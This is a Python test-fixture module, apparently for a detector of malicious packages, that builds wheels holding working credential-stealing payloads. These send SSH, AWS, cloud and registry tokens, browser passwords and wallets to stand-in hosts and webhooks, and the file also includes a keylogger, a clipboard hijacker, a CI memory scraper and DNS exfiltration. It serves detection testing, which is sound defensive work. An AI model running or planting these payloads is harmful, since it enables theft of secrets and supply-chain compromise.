"""What is taken, and where it goes. The sinks are of many kinds on purpose."""
from .package import attack, b64

HOOK = "https://discord.com/api/webhooks/112233445566778899/" + "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcdefghijklmnopqrstuvwxyz"


@attack
def environment_to_discord(p):
    """All environment variables to a Discord webhook at import. Must be held."""
    return p.wheel(init=f'''
        import os
        import requests

        requests.post("{HOOK}", json={{"content": str(dict(os.environ))}})
        ''')


@attack
def ssh_keys_to_telegram(p):
    """SSH keys by a Telegram bot, in a function that the package's class calls. Must be held."""
    return p.wheel(files={"{m}/client.py": '''
        import glob, os
        import requests

        BOT = "https://api.telegram.org/bot7012345678:AAEhBOweik6ad9r_QXMENQjcrGbqCr4K-bc"


        class Client:
            def __init__(self):
                for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
                    with open(path) as f:
                        requests.post(BOT + "/sendMessage", data={"chat_id": 1, "text": f.read()})
        '''})


@attack
def aws_keys_to_slack(p):
    """AWS credentials to a Slack webhook. Must be held."""
    return p.wheel(files={"{m}/client.py": '''
        import json, os, urllib.request


        def connect():
            with open(os.path.expanduser("~/.aws/credentials")) as f:
                body = json.dumps({"text": f.read()}).encode()
            urllib.request.urlopen("https://hooks.slack.com/services/T01ABCDEF/B01ABCDEF/AbCdEfGhIjKlMnOpQrStUvWx", body)
        '''})


@attack
def environment_in_a_path(p):
    """The constructor appends the encoded environment to an address (a configuration library, May 2022). Must be
    held."""
    return p.wheel(init='''
        import base64, os
        import urllib.request


        class Table(dict):
            def __init__(self, *args):
                super().__init__(*args)
                text = "".join(k + "=" + v for k, v in os.environ.items())
                urllib.request.urlopen("https://anti-theft-web.example.net/hacked/" + base64.b64encode(text.encode()).decode())
        ''')


@attack
def cloud_keys_by_name(p):
    """Only the interesting variables, by name, encoded, to a server. Must be held."""
    return p.wheel(init='''
        import os
        import requests

        keys = {k: os.environ.get(k) for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "NPM_TOKEN")}
        requests.post("https://metrics.example.net/v2/collect", json=keys)
        ''')


@attack
def kubernetes_token(p):
    """The service account's token, read and sent. Must be held."""
    return p.wheel(files={"{m}/client.py": '''
        import http.client


        def report():
            with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as f:
                c = http.client.HTTPSConnection("collect.example.net")
                c.request("POST", "/k", f.read())
        '''})


@attack
def registry_tokens(p):
    """Tokens for publishing packages: .npmrc, .pypirc, .netrc (self-spreading worms of 2025). Must be held."""
    return p.wheel(files={"{m}/sync.py": '''
        import os, pathlib
        import httpx


        def sync():
            found = {}
            for name in (".npmrc", ".pypirc", ".netrc", ".docker/config.json"):
                path = pathlib.Path.home() / name
                if path.exists():
                    found[name] = path.read_text()
            httpx.post("https://collect.example.net/t", json=found)
        '''})


@attack
def browser_passwords(p):
    """Passwords and cookies of browsers, decrypted and sent (stealers without number). Must be held."""
    return p.wheel(files={"{m}/store.py": '''
        import os, shutil, sqlite3
        import requests


        def collect():
            base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
            shutil.copy(os.path.join(base, "Default", "Login Data"), "login.db")
            rows = sqlite3.connect("login.db").execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
            requests.post("https://store.example.net/u", files={"f": str(rows)})
        '''})


@attack
def wallet_files(p):
    """Files of several wallets, packed and uploaded. Must be held."""
    return p.wheel(files={"{m}/backup.py": '''
        import os, zipfile
        import requests

        FOLDERS = ["~/.bitcoin/wallet.dat", "~/.ethereum/keystore", "~/.electrum/wallets", "~/AppData/Roaming/Exodus/exodus.wallet"]


        def backup():
            with zipfile.ZipFile("/tmp/b.zip", "w") as z:
                for folder in FOLDERS:
                    z.write(os.path.expanduser(folder))
            with open("/tmp/b.zip", "rb") as f:
                requests.post("https://backup.example.net/u", data=f)
        '''})


@attack
def clipboard_hijack(p):
    """Replaces wallet addresses in the clipboard in a loop. Must be held."""
    return p.wheel(files={"{m}/watch.py": '''
        import re, time
        import pyperclip

        OURS = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"


        def watch():
            while True:
                text = pyperclip.paste()
                if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text) or re.match(r"^0x[a-fA-F0-9]{40}$", text):
                    pyperclip.copy(OURS)
                time.sleep(1)
        '''})


@attack
def keys_recorded(p):
    """Records what is typed and mails it. Must be held."""
    return p.wheel(init='''
        import smtplib
        from pynput import keyboard

        LOG = []


        def on_press(key):
            LOG.append(str(key))
            if len(LOG) > 200:
                s = smtplib.SMTP("mail.example.net", 587)
                s.sendmail("a@example.net", "b@example.net", "".join(LOG))


        keyboard.Listener(on_press=on_press).start()
        ''')


@attack
def names_looked_up(p):
    """Data goes out as labels of looked-up names (DNS), past firewalls. Must be held."""
    return p.wheel(init='''
        import getpass, socket

        data = (socket.gethostname() + "|" + getpass.getuser()).encode().hex()
        for i in range(0, len(data), 60):
            try:
                socket.gethostbyname(data[i:i + 60] + ".d.example.net")
            except OSError:
                pass
        ''')


@attack
def metadata_service(p):
    """Asks the cloud's metadata service for a token and sends it on. Must be held."""
    return p.wheel(files={"{m}/cloud.py": '''
        import requests

        BASE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


        def detect():
            role = requests.get(BASE, timeout=1).text
            keys = requests.get(BASE + role, timeout=1).json()
            requests.post("https://collect.example.net/c", json=keys)
        '''})


@attack
def host_reported(p):
    """Host, user and public address to somebody, at import. Must be held."""
    return p.wheel(init='''
        import getpass, platform, socket
        import requests

        requests.get("https://track.example.net/p", params={"h": socket.gethostname(), "u": getpass.getuser(), "o": platform.platform()})
        ''')


@attack
def runner_memory(p):
    """Reads the memory of the build runner for secrets (compromised actions of 2025). Must be held."""
    return p.wheel(files={"{m}/ci.py": '''
        import os, re
        import requests


        def scan():
            for pid in filter(str.isdigit, os.listdir("/proc")):
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if b"Runner.Worker" not in f.read():
                        continue
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
                    for line in maps:
                        a, b = (int(x, 16) for x in line.split()[0].split("-"))
                        mem.seek(a)
                        for m in re.findall(rb'"[^"]+":{"value":"[^"]*","isSecret":true}', mem.read(b - a)):
                            requests.post("https://collect.example.net/r", data=m)
        '''})


@attack
def tokens_by_commands(p):
    """Asks the tools themselves for their tokens: gh auth token, gcloud, az, and sends them. Must be held."""
    return p.wheel(init='''
        import subprocess
        import requests

        found = []
        for command in (["gh", "auth", "token"], ["gcloud", "auth", "print-access-token"], ["az", "account", "get-access-token"]):
            try:
                found.append(subprocess.check_output(command, text=True))
            except OSError:
                pass
        requests.post("https://collect.example.net/g", json=found)
        ''')


@attack
def discord_tokens(p):
    """Session tokens of the Discord client out of its database. Must be held."""
    return p.wheel(files={"{m}/level.py": '''
        import os, re
        import requests


        def tokens():
            path = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
            for name in os.listdir(path):
                with open(os.path.join(path, name), errors="ignore") as f:
                    for token in re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", f.read()):
                        requests.post("https://collect.example.net/d", json={"t": token})
        '''})


@attack
def password_hashes(p):
    """/etc/shadow by a raw socket. Must be held."""
    return p.wheel(init='''
        import socket

        s = socket.socket()
        s.connect(("198.18.0.7", 4443))
        with open("/etc/shadow", "rb") as f:
            s.sendall(f.read())
        ''')


@attack
def git_credentials_by_ftp(p):
    """Git's stored passwords and the model hub's token by FTP. Must be held."""
    return p.wheel(files={"{m}/mirror.py": '''
        import ftplib, os


        def mirror():
            ftp = ftplib.FTP("ftp.example.net", "u", "p")
            for path in ("~/.git-credentials", "~/.cache/huggingface/token", "~/.config/gcloud/application_default_credentials.json"):
                with open(os.path.expanduser(path), "rb") as f:
                    ftp.storbinary("STOR " + os.path.basename(path), f)
        '''})


@attack
def paths_decoded(p):
    """Path and address are encoded, so that no search finds them. Must be held."""
    return p.wheel(init=f'''
        import base64, os
        import requests

        d = lambda s: base64.b64decode(s).decode()
        with open(os.path.expanduser(d("{b64('~/.ssh/id_rsa')}"))) as f:
            requests.post(d("{b64('https://collect.example.net/s')}"), data=f.read())
        ''')


@attack
def sent_by_curl(p):
    """curl does the sending: no network function of Python is named. Must be held."""
    return p.wheel(files={"{m}/post.py": '''
        import os


        def post():
            os.system("tar cz ~/.ssh ~/.aws ~/.kube 2>/dev/null | curl -s --data-binary @- https://collect.example.net/x")
        '''})


@attack
def library_patched(p):
    """Wraps a method of another library, so that keys pass by it on their way (a wallet library's helper, 2025).
    Must be held."""
    return p.wheel(init='''
        import threading
        import requests
        from solders.keypair import Keypair

        _original = Keypair.from_seed


        def _copy(seed):
            pair = _original(seed)
            threading.Thread(target=requests.post, args=("https://rpc.example.net/memo",), kwargs={"data": bytes(pair)}).start()
            return pair


        Keypair.from_seed = _copy
        ''')


@attack
def requests_wrapped(p):
    """Wraps requests.Session.send and copies Authorization headers to a server of its own. Must be held."""
    return p.wheel(init='''
        import requests

        _send = requests.Session.send


        def send(self, request, **kw):
            token = request.headers.get("Authorization")
            if token:
                _send(self, requests.Request("POST", "https://auth.example.net/v", data=token).prepare())
            return _send(self, request, **kw)


        requests.Session.send = send
        ''')


@attack
def screen_sent(p):
    """Pictures of the screen to a chat channel. Must be held."""
    return p.wheel(files={"{m}/shot.py": f'''
        import io
        import requests
        from PIL import ImageGrab


        def shot():
            b = io.BytesIO()
            ImageGrab.grab().save(b, "png")
            requests.post("{HOOK}", files={{"f": b.getvalue()}})
        '''})
